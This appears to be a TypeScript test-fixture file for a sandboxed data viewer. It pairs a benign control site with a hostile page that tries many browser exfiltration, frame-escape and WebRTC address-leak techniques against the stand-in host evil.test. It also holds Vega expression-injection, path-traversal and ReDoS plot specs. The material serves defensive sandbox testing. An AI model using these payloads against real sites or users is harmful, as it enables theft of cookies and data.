/** Results that mean harm: each tries to act as the person who looks at it, or to tell somebody of it. */

/** Whom they would like to reach: us, by paths that begin with `/stolen`, and a machine of theirs. */
export interface Targets {
  /** `http://evil.test:<port>`; knows whether anything was sent. */
  evil: string;
  udpPort: number;
}

/** What a page can ask a browser for without a script. */
const markup = (evil: string): string => `
<link rel="stylesheet" href="/stolen-style"><link rel="stylesheet" href="${evil}/style">
<link rel="prefetch" href="/stolen-prefetch"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}">
<link rel="preload" as="image" href="${evil}/preload"><link rel="modulepreload" href="/stolen-module"><link rel="icon" href="${evil}/icon">
<link rel="manifest" href="/stolen-manifest"><base href="${evil}/">
<style>@import url(${evil}/import); body { background: url(/stolen-background) } @font-face { font-family: x; src: url(${evil}/font) } p { font-family: x }</style>
<script type="speculationrules">{"prefetch":[{"urls":["/stolen-speculation"]}],"prerender":[{"urls":["/stolen-prerender"]}]}</script>
<img src="/stolen-image"><img src="${evil}/image"><iframe src="/stolen-frame"></iframe><iframe src="${evil}/frame"></iframe>
<object data="/stolen-object"></object><embed src="/stolen-embed"><video src="/stolen-video"></video><audio src="${evil}/audio"></audio>
<form id="f" action="/stolen-form" method="post" target="_top"><input name="a" value="b"></form>
<form id="g" action="${evil}/form" method="get"></form><a id="blank" href="/stolen-popup" target="_blank">x</a>
<a id="save" href="/stolen-download" download>x</a><a id="ping" href="#" ping="/stolen-ping ${evil}/ping">x</a>
<svg><image href="/stolen-svg"/><use href="${evil}/use#a"/></svg>`;

/** Asks a machine of theirs for our address, with whatever is to be told in a name. It holds no double quote. */
const callOf = (udpPort: number): string =>
  `const link = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); link.createDataChannel('a'); void link.createOffer().then((offer) => link.setLocalDescription(offer));`;

/** A page with all of them, and what scripts can do; its title becomes "done" when all but leaving its frame is tried. */
export function hostilePage({ evil, udpPort }: Targets): string {
  const call = callOf(udpPort);
  return `<!doctype html><html><head><title>trying</title>${markup(evil)}</head><body><p id="said">nothing</p>
<iframe srcdoc="<script>${call}</script>"></iframe><script>
const call = ${JSON.stringify(call)};
const inFrame = '<script>' + call + '<' + '/script>';
const said = [];
const attempt = (name, act) => { try { const got = act(); if (got && got.then) got.then((value) => said.push(name + ' ' + value), () => 0); else if (got) said.push(name + ' ' + got); } catch {} };
attempt('cookie', () => document.cookie);
attempt('storage', () => { localStorage.setItem('a', 'b'); return 'stored'; });
attempt('parent', () => parent.document.title);
attempt('top', () => top.location.href);
for (const target of [location.ancestorOrigins?.[0] ?? '', '${evil}']) {
  attempt('fetch', () => fetch(target + '/stolen-fetch', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'a' }).then((answer) => answer.status));
  attempt('xhr', () => { const asked = new XMLHttpRequest(); asked.open('GET', target + '/stolen-xhr'); asked.send(); });
  attempt('beacon', () => { navigator.sendBeacon(target + '/stolen-beacon', 'a'); });
  attempt('socket', () => { new WebSocket(target.replace('http', 'ws') + '/stolen-socket'); });
  attempt('events', () => { new EventSource(target + '/stolen-events'); });
  attempt('image', () => { new Image().src = target + '/stolen-new-image'; });
  attempt('import', () => import(target + '/stolen-import'));
  attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['importScripts("' + target + '/stolen-worker"); fetch("' + target + '/stolen-worker-fetch")']))); });
  attempt('open', () => open(target + '/stolen-open') && 'opened');
  attempt('top', () => { top.location.href = target + '/stolen-top'; });
  attempt('parent', () => { parent.location = target + '/stolen-parent'; });
}
attempt('service', () => navigator.serviceWorker.register('/stolen-service.js'));
attempt('message', () => { for (const data of ['logout', { type: 'live:merged' }, '<img src=/stolen-message>']) parent.postMessage(data, '*'); });
attempt('call', () => { ${call} });
attempt('call in a frame', () => { const frame = document.createElement('iframe'); frame.srcdoc = inFrame; document.body.append(frame); });
attempt('call in a fragment', () => { const box = document.createElement('div'); box.innerHTML = '<p><iframe></iframe></p>'; box.querySelector('iframe').srcdoc = inFrame; document.body.append(box); });
attempt('call in a shadow', () => { const host = document.createElement('div'); document.body.append(host); const frame = document.createElement('iframe'); frame.srcdoc = inFrame; host.attachShadow({ mode: 'closed' }).append(frame); });
attempt('call in a blank frame', () => { const frame = document.createElement('iframe'); document.body.append(frame); const { RTCPeerConnection } = frame.contentWindow; ${call} });
attempt('submit', () => document.getElementById('f').submit());
attempt('submit', () => document.getElementById('g').submit());
for (const id of ['blank', 'ping']) attempt(id, () => document.getElementById(id).click());
attempt('alert', () => alert('stolen'));
attempt('frame', () => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch('${evil}/inner').catch(() => 0); frame.srcdoc = '<img src="${evil}/srcdoc">'; });
setTimeout(() => { document.getElementById('said').textContent = said.join('; ') || 'nothing'; document.title = 'done'; }, 700);
setTimeout(() => document.getElementById('save').click(), 900);
setTimeout(() => { location = '/stolen-self'; }, 950);
setTimeout(() => { location = '${evil}/self'; }, 1000);
</script></body></html>`;
}

/** A site that does what honest ones do: parts of files, and workers that load further files. */
export const SITE = {
  'site/index.html': `<!doctype html><title>site</title><link rel="stylesheet" href="site.css"><p id="said"></p><script src="site.js"></script>`,
  'site/site.css': 'p { color: rgb(1, 2, 3) }',
  'site/site.js': `
const results = {};
const said = document.getElementById('said');
const tell = (name, value) => { results[name] = value; said.textContent = JSON.stringify(results); };
fetch('data/.._DAPI.tif.dzi').then((answer) => answer.text()).then((text) => tell('dzi', text));
fetch('cells.h5ad', { headers: { Range: 'bytes=2-4' } }).then(async (answer) => tell('range', answer.status + ' ' + (await answer.text())));
fetch('../secret.json').then((answer) => tell('above', answer.status), () => tell('above', 'refused'));
const plain = new Worker('work/plain.js'); plain.onmessage = ({ data }) => tell('plain', data);
const modern = new Worker('work/modern.js', { type: 'module' }); modern.onmessage = ({ data }) => tell('modern', data);
modern.postMessage('asked');
const own = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => { const asked = new XMLHttpRequest(); asked.open("GET", data, false); asked.setRequestHeader("Range", "bytes=7-8"); asked.send(); postMessage(asked.status + " " + asked.responseText); }'])));
own.onmessage = ({ data }) => tell('own', data);
own.postMessage(new URL('cells.h5ad', location.href).href);
const tile = new Image(); tile.crossOrigin = 'anonymous'; tile.src = 'data/.._DAPI.tif_files/0/0_0.svg';
tile.onload = () => { const context = document.createElement('canvas').getContext('2d'); context.drawImage(tile, 0, 0); tell('pixels', String(context.getImageData(1, 1, 1, 1).data)); };
tell('colour', getComputedStyle(said).color);`,
  'site/work/plain.js': `importScripts('lib.js'); fetch('../cells.h5ad').then((answer) => answer.text()).then((text) => postMessage(lib + ' ' + text));`,
  'site/work/lib.js': `self.lib = 'lib';`,
  'site/work/modern.js': `import { word } from './word.js'; onmessage = ({ data }) => postMessage(data + ' ' + word);`,
  'site/work/word.js': `export const word = 'module';`,
  'site/data/.._DAPI.tif.dzi': '<Image/>',
  'site/data/.._DAPI.tif_files/0/0_0.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4" fill="#00ff00"/></svg>',
  'site/cells.h5ad': '0123456789',
  'secret.json': '{}',
};

const LITE = 'https://vega.github.io/schema/vega-lite/v6.json';
const VEGA = 'https://vega.github.io/schema/vega/v6.json';
const bars = (data: unknown, more: object = {}) => ({
  $schema: LITE,
  description: 'Cells by class',
  data,
  mark: 'bar',
  encoding: {
    x: { field: 'class', type: 'nominal' },
    y: { field: 'cells', type: 'quantitative' },
    color: { field: 'class', type: 'nominal' },
  },
  ...more,
});
const script = (expression: string) => ({
  $schema: VEGA,
  width: 50,
  height: 50,
  signals: [{ name: 'a', update: expression }],
  marks: [{ type: 'text', encode: { update: { text: { signal: 'a' } } } }],
});

export const PLOT_DATA = 'class,cells\nTumour,412\nStroma,230\nImmune,178\nOther,64\n';

/** Plots by name, and what each may come to: `drawn`, or why not. Those before `z_many_rows` fit on one page. */
export const PLOTS: Record<string, { spec: object; comesTo: string[] }> = {
  good: { spec: bars({ url: 'tables/counts.csv' }), comesTo: ['drawn'] },
  constructor: { spec: script("datum.constructor.constructor('parent.stolen = 1')()"), comesTo: ['bad'] },
  elsewhere: { spec: bars({ url: 'http://evil.test/stolen' }), comesTo: ['foreign'] },
  project: { spec: bars({ url: '../../2/files/cells.csv' }), comesTo: ['foreign'] },
  view: { spec: script("event.view.eval('stolen = 1')"), comesTo: ['bad'] },
  wide: { spec: bars({ url: 'tables/counts.csv' }, { width: 40_000 }), comesTo: ['large'] },
  z_many_rows: { spec: bars({ sequence: { start: 0, stop: 3_000_000, as: 'n' } }), comesTo: ['large'] },
  z_long_lists: {
    spec: bars({ sequence: { start: 0, stop: 500_000, as: 'n' } }, { transform: [{ calculate: 'sequence(0, 2000)', as: 's' }] }),
    comesTo: ['large'],
  },
  z_without_end: { spec: script(`test(/(a+)+$/, '${'a'.repeat(60)}b')`), comesTo: ['slow'] },
};
